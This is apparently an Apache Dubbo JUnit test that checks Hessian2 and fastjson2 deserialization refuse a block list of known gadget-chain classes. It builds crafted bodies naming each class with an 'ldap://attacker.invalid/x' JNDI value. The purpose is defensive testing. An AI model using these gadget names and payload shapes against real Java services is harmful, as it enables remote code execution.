package org.apache.dubbo.common.serialize;

import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

import com.alibaba.com.caucho.hessian.io.Hessian2Output;
import com.alibaba.fastjson2.JSONWriter;
import org.apache.dubbo.common.serialize.hessian2.RefusedClassException;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;

/**
 * The entry classes of the deserialization gadget chains in Apache Dubbo's CVE history and the public exploit
 * tool chains against hessian and fastjson (CVE-2020-1948, CVE-2021-25641, CVE-2021-43297, CVE-2022-39198,
 * CVE-2023-23638 and the marshalsec/ysoserial families they used), named in crafted bodies, are refused by name
 * under the default class policy: the read fails with an error naming the class, and the class is never looked up,
 * so nothing is initialised or instantiated (that refusals never load the class is proven with a tripwire class
 * in {@code hessian2.RefusedClassTest#refusedClassIsNeverLoaded}).
 */
class GadgetClassesRefusedTest {

    static final List<String> GADGETS = List.of(
            // JNDI / RMI / JMX triggers
            "com.sun.rowset.JdbcRowSetImpl",
            "javax.naming.spi.ContinuationContext",
            "javax.naming.CannotProceedException",
            "javax.management.BadAttributeValueExpException",
            "java.rmi.server.UnicastRemoteObject",
            "java.rmi.server.RemoteObjectInvocationHandler",
            "sun.rmi.server.UnicastRef",
            "com.sun.jndi.rmi.registry.ReferenceWrapper",
            "org.springframework.jndi.support.SimpleJndiBeanFactory",
            "org.springframework.aop.support.DefaultBeanFactoryPointcutAdvisor",
            "org.springframework.beans.factory.config.PropertyPathFactoryBean",
            "org.springframework.aop.aspectj.autoproxy.AspectJAwareAdvisorAutoProxyCreator$PartiallyComparableAdvisorHolder",
            "org.springframework.transaction.jta.JtaTransactionManager",
            "org.apache.xbean.naming.context.ContextUtil$ReadOnlyBinding",
            "org.apache.xbean.propertyeditor.JndiConverter",
            "com.caucho.naming.QName",
            "org.apache.naming.ResourceRef",
            "org.apache.naming.factory.BeanFactory",
            "org.apache.shiro.jndi.JndiObjectFactory",
            "org.apache.shiro.realm.jndi.JndiRealmFactory",
            "org.apache.ibatis.datasource.jndi.JndiDataSourceFactory",
            "org.apache.commons.configuration.JNDIConfiguration",
            "org.hibernate.jmx.StatisticsService",
            "ch.qos.logback.core.db.JNDIConnectionSource",
            "com.zaxxer.hikari.HikariConfig",
            "com.zaxxer.hikari.HikariDataSource",
            "com.mchange.v2.c3p0.JndiRefForwardingDataSource",
            "com.mchange.v2.c3p0.WrapperConnectionPoolDataSource",
            "com.mchange.v2.c3p0.impl.PoolBackedDataSourceBase",
            "org.apache.tomcat.dbcp.dbcp2.BasicDataSource",
            "org.apache.commons.dbcp.BasicDataSource",
            "org.apache.commons.proxy.provider.remoting.RmiProvider",
            "org.apache.aries.transaction.jms.RecoverablePooledConnectionFactory",
            "org.apache.cocoon.components.slide.impl.JMSContentInterceptor",
            "oracle.jdbc.connector.OracleManagedConnectionFactory",
            "com.ibatis.sqlmap.engine.transaction.jta.JtaTransactionConfig",
            // toString/equals/hashCode trampolines into getters (hessian's map keys, exception messages)
            "com.rometools.rome.feed.impl.ToStringBean",
            "com.rometools.rome.feed.impl.EqualsBean",
            "com.sun.syndication.feed.impl.ToStringBean",
            "com.sun.org.apache.xpath.internal.objects.XString",
            "javax.swing.MultiUIDefaults",
            "javax.swing.UIDefaults",
            "javax.swing.UIDefaults$ProxyLazyValue",
            "sun.swing.SwingLazyValue",
            "com.alibaba.fastjson.JSONObject",
            "com.fasterxml.jackson.databind.node.POJONode",
            // code execution, bytecode and script loading
            "java.lang.Runtime",
            "java.lang.ProcessBuilder",
            "java.lang.reflect.Method",
            "java.net.URLClassLoader",
            "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
            "org.apache.xalan.xsltc.trax.TemplatesImpl",
            "com.sun.org.apache.bcel.internal.util.JavaWrapper",
            "com.sun.org.apache.bcel.internal.util.ClassLoader",
            "sun.security.tools.keytool.Main",
            "jdk.nashorn.internal.objects.NativeString",
            "javax.script.ScriptEngineManager",
            "org.apache.commons.collections.functors.InvokerTransformer",
            "org.apache.commons.collections.functors.ChainedTransformer",
            "org.apache.commons.collections.functors.InstantiateTransformer",
            "org.apache.commons.collections.keyvalue.TiedMapEntry",
            "org.apache.commons.collections.map.LazyMap",
            "org.apache.commons.collections4.functors.InvokerTransformer",
            "org.apache.commons.collections4.comparators.TransformingComparator",
            "org.apache.commons.beanutils.BeanComparator",
            "org.codehaus.groovy.runtime.MethodClosure",
            "org.codehaus.groovy.runtime.ConvertedClosure",
            "groovy.lang.GroovyShell",
            "org.mozilla.javascript.NativeJavaObject",
            "bsh.XThis",
            "clojure.core$comp",
            "org.python.core.PyFunction",
            "org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider",
            "org.springframework.expression.spel.standard.SpelExpression",
            "com.thoughtworks.xstream.XStream",
            "org.yaml.snakeyaml.Yaml",
            "javassist.util.proxy.ProxyObject",
            "net.bytebuddy.ByteBuddy",
            "org.apache.log4j.receivers.db.JNDIConnectionSource",
            "org.apache.logging.log4j.core.lookup.JndiLookup");

    @TestFactory
    Stream<DynamicTest> hessian2RefusesEveryGadgetByName() {
        List<DynamicTest> tests = new ArrayList<>();
        for (String gadget : GADGETS) {
            tests.add(DynamicTest.dynamicTest(gadget, () -> {
                RefusedClassException top = assertThrows(RefusedClassException.class,
                        () -> read(2, hessianObject(gadget, false)));
                assertTrue(top.getMessage().contains(gadget), top.getMessage());
                RefusedClassException nested = assertThrows(RefusedClassException.class,
                        () -> read(2, hessianObject(gadget, true)));
                assertTrue(nested.getMessage().contains(gadget), nested.getMessage());
            }));
        }
        return tests.stream();
    }

    @TestFactory
    Stream<DynamicTest> fastjson2RefusesEveryGadgetByName() {
        List<DynamicTest> tests = new ArrayList<>();
        for (String gadget : GADGETS) {
            tests.add(DynamicTest.dynamicTest(gadget, () -> {
                IOException top = assertThrows(IOException.class, () -> read(23, jsonbObject(gadget, false)));
                assertTrue(top.getMessage().contains(gadget), top.getMessage());
                IOException nested = assertThrows(IOException.class, () -> read(23, jsonbObject(gadget, true)));
                assertTrue(nested.getMessage().contains(gadget), nested.getMessage());
            }));
        }
        return tests.stream();
    }

    private static Object read(int serializationId, byte[] body) throws IOException, ClassNotFoundException {
        ObjectInput in = Serializations.byId(serializationId).deserialize(new ByteArrayInputStream(body));
        try {
            return in.readObject();
        } finally {
            in.cleanup();
        }
    }

    /** An object of class {@code type} with a string field, alone or as a map value, as an attacker writes it. */
    private static byte[] hessianObject(String type, boolean inMap) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        Hessian2Output out = new Hessian2Output(bytes);
        if (inMap) {
            out.writeMapBegin("java.util.HashMap");
            out.writeString("key");
        }
        out.writeObjectBegin(type);
        out.writeClassFieldLength(1);
        out.writeString("dataSourceName");
        out.writeObjectBegin(type);
        out.writeString("ldap://attacker.invalid/x");
        if (inMap) {
            out.writeMapEnd();
        }
        out.flush();
        return bytes.toByteArray();
    }

    /** The same in JSONB with an auto-type name, framed as our fastjson2 body ({@code [length][JSONB]}). */
    private static byte[] jsonbObject(String type, boolean inMap) {
        JSONWriter w = JSONWriter.ofJSONB();
        if (inMap) {
            w.startObject();
            w.writeName("key");
        }
        w.startObject();
        w.writeTypeName(type);
        w.writeName("dataSourceName");
        w.writeString("ldap://attacker.invalid/x");
        w.endObject();
        if (inMap) {
            w.endObject();
        }
        byte[] jsonb = w.getBytes();
        byte[] body = new byte[4 + jsonb.length];
        body[0] = (byte) (jsonb.length >>> 24);
        body[1] = (byte) (jsonb.length >>> 16);
        body[2] = (byte) (jsonb.length >>> 8);
        body[3] = (byte) jsonb.length;
        System.arraycopy(jsonb, 0, body, 4, jsonb.length);
        return body;
    }
}
